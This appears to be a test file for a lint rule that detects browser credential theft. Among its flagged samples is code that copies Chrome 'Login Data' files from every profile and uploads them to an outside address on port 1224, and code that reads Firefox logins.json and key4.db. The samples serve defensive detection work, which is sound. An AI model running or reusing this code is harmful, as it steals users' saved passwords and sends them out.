import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/browser-credential-theft.ts'

new RuleTester().run(rule, {
  valid: [
    // browser launcher: install paths and a user-data dir, no credential store
    "const path = require('path'); const os = require('os'); const fs = require('fs'); const chrome = path.join(process.env.LOCALAPPDATA, 'Google/Chrome/Application/chrome.exe'); fs.existsSync(chrome); const userDataDir = path.join(os.tmpdir(), 'profile')",
    "const cookies = req.headers.cookie; res.setHeader('Set-Cookie', 'a=b')",
  ],
  invalid: [
    {
      name: 'Login Data copied and uploaded',
      code: "const fs = require('fs'); const os = require('os'); const base = os.homedir() + '/.config/google-chrome'; for (let i = 0; i < 200; i++) { const p = base + '/' + (i ? 'Profile ' + i : 'Default') + '/Login Data'; if (fs.existsSync(p)) { fs.copyFileSync(p, '/tmp/ld_' + i); require('request').post({ url: 'http://192.0.2.10:1224/uploads', formData: { f: fs.createReadStream(p) } }) } }",
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'Firefox logins and key store read',
      code: "const fs = require('fs'); const path = require('path'); module.exports = (dir) => [fs.readFileSync(path.join(dir, 'logins.json')), fs.readFileSync(path.join(dir, 'key4.db'))]",
      errors: [{ severity: 'high' }],
    },
  ],
})
